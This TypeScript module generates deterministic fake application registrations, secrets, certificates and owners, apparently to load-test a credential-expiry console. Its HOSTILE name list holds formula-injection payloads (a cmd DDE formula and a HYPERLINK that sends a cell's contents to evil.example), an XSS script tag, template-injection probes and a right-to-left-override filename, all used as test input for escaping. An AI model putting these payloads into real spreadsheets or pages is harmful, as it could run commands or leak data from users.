import { createHash } from 'node:crypto'
import type { Owner, Registered, RegisteredKey, RegisteredPassword } from './registered'
import type { Fill } from './world'

/** The full size that a console must bear. */
export const FILL_SIZE = { applications: 20_000, credentials: 45_000 } as const

const DAY_MS = 24 * 60 * 60 * 1000
const FAR = new Date('2299-12-30T12:00:00Z')
const USERS = 200
const LONGEST_NAME = 256

const WORK = [
  'Invoice',
  'Payroll',
  'Scanner',
  'Backup',
  'Intranet',
  'Ticket',
  'Badge',
  'Archive',
  'Monitoring',
  'Fleet',
]
const THING = ['mailer', 'export', 'connector', 'sync', 'bot', 'report', 'gateway', 'importer']
/** Names as nobody should give them, and somebody does. */
const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\u202Egpj.exe\u202C',
  `"double", 'single', “typographic” and \`back-tick\``,
  '<script>alert(1)</script>&amp;',
  'Very long name '.repeat(20).slice(0, LONGEST_NAME),
  'tab\tand line\nbreak',
  'ünïcödé 測試 🔑 e\u0301',
  '  spaces around  ',
  '{{ 7*7 }} #{7*7} %s %00',
]

/** 32 bytes that follow from the seed and these words alone. */
const dice = ({ seed }: Fill, ...words: (string | number)[]): Buffer =>
  createHash('sha256')
    .update([seed, ...words].join(' '))
    .digest()
const roll = (bytes: Buffer, at: number, sides: number): number => bytes.readUInt32BE(at) % sides
const pick = <T>(list: readonly T[], number: number): T => list[number % list.length] as T
const days = (at: Date, count: number): Date => new Date(at.getTime() + count * DAY_MS)

const maskOf = (fill: Fill, kind: string): number => dice(fill, kind, 'mask').readUInt32BE(0)

/** Random to look at, but its last eight digits say which application it is: so it is found without an index. */
function idOf(fill: Fill, kind: string, index: number): string {
  const hex = dice(fill, kind, index).toString('hex')
  const last = ((index ^ maskOf(fill, kind)) >>> 0).toString(16).padStart(8, '0')
  return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-a${hex.slice(17, 20)}-${hex.slice(20, 24)}${last}`
}

/** The made-up application with this `appId` or object `id`. */
export function filledApplication(fill: Fill, kind: 'appId' | 'id', value: string): Registered | undefined {
  const index = (Number.parseInt(value.slice(-8), 16) ^ maskOf(fill, kind)) >>> 0
  return index < fill.applications && idOf(fill, kind, index) === value.toLowerCase()
    ? filledAt(fill, index)
    : undefined
}

/** Two neighbours share what falls to them, one die says how: so the sum is exact and nothing need be counted. */
function credentialCount({ applications, credentials, ...fill }: Fill, index: number): number {
  const pairs = Math.ceil(applications / 2)
  const pair = Math.floor(index / 2)
  const share = Math.floor(((pair + 1) * credentials) / pairs) - Math.floor((pair * credentials) / pairs)
  const alone = pair * 2 + 1 >= applications
  const first = alone ? share : roll(dice({ applications, credentials, ...fill }, 'share', pair), 0, share + 1)
  return index % 2 === 0 ? first : share - first
}

/** Of a hundred: 27 have ended, 13 end within 30 days, 10 within 60, 2 almost never, the others in up to two years. */
function lifeOf({ at }: Fill, bytes: Buffer): { startsAt: Date; expiresAt: Date } {
  const state = roll(bytes, 0, 100)
  const day = bytes.readUInt32BE(4) / 2 ** 32
  const ends = state < 27 ? -1 - day * 900 : state < 40 ? day * 30 : state < 50 ? 30 + day * 30 : 61 + day * 669
  const expiresAt = state >= 98 ? FAR : days(at, ends)
  return {
    startsAt: state >= 98 ? days(at, -day * 900) : days(expiresAt, -pick([90, 180, 365, 730], bytes[8] ?? 0)),
    expiresAt,
  }
}

function nameOf(bytes: Buffer, index: number): string {
  if (roll(bytes, 12, 20) === 0) return pick(HOSTILE, index)
  return `${pick(WORK, bytes[16] ?? 0)} ${pick(THING, bytes[17] ?? 0)} ${index + 1}`
}

function ownersOf(fill: Fill, bytes: Buffer, index: number): Owner[] {
  const count = roll(bytes, 20, 4)
  return Array.from({ length: count }, (_, at): Owner => {
    const number = (roll(bytes, 24, USERS) + at * 7) % USERS
    if ((bytes[28] ?? 0) < 20 && at === 0) {
      return {
        kind: 'servicePrincipal',
        id: idOf(fill, 'principal', index),
        displayName: nameOf(bytes, index),
        appId: idOf(fill, 'appId', index),
      }
    }
    const displayName = number % 25 === 0 ? pick(HOSTILE, number / 25) : `Team ${number + 1}`
    return {
      kind: 'user',
      id: idOf(fill, 'user', number),
      displayName,
      userPrincipalName: `team${number + 1}@contoso.example`,
    }
  })
}

/** The `index`th made-up application, the same each time it is asked for. */
export function filledAt(fill: Fill, index: number): Registered {
  const bytes = dice(fill, 'application', index)
  const passwords: RegisteredPassword[] = []
  const keys: RegisteredKey[] = []
  for (let at = 0; at < credentialCount(fill, index); at += 1) {
    const own = dice(fill, 'credential', index, at)
    const displayName = roll(own, 12, 4) === 0 ? null : nameOf(own, at)
    const common = { keyId: idOf(fill, `credential ${at}`, index), displayName, ...lifeOf(fill, own) }
    if ((own[9] ?? 0) < 46)
      keys.push({ ...common, thumbprint: own.toString('hex').slice(0, 40).toUpperCase(), key: null })
    else passwords.push({ ...common, hint: own.toString('base64url').slice(0, 3) })
  }
  return {
    id: idOf(fill, 'id', index),
    appId: idOf(fill, 'appId', index),
    displayName: nameOf(bytes, index),
    createdAt: days(fill.at, -1 - roll(bytes, 0, 1500)),
    passwords,
    keys,
    owners: ownersOf(fill, bytes, index),
  }
}

/** What a fill holds, counted one application at a time. */
export function fillSummary(fill: Fill): Record<string, number | string> {
  const counts = {
    secrets: 0,
    certificates: 0,
    expired: 0,
    within30Days: 0,
    within60Days: 0,
    later: 0,
    withoutOwner: 0,
  }
  for (let index = 0; index < fill.applications; index += 1) {
    const { passwords, keys, owners } = filledAt(fill, index)
    counts.secrets += passwords.length
    counts.certificates += keys.length
    if (owners.length === 0) counts.withoutOwner += 1
    for (const { expiresAt } of [...passwords, ...keys]) {
      const left = (expiresAt.getTime() - fill.at.getTime()) / DAY_MS
      counts[left <= 0 ? 'expired' : left <= 30 ? 'within30Days' : left <= 60 ? 'within60Days' : 'later'] += 1
    }
  }
  return { applications: fill.applications, at: fill.at.toISOString(), seed: fill.seed, ...counts }
}
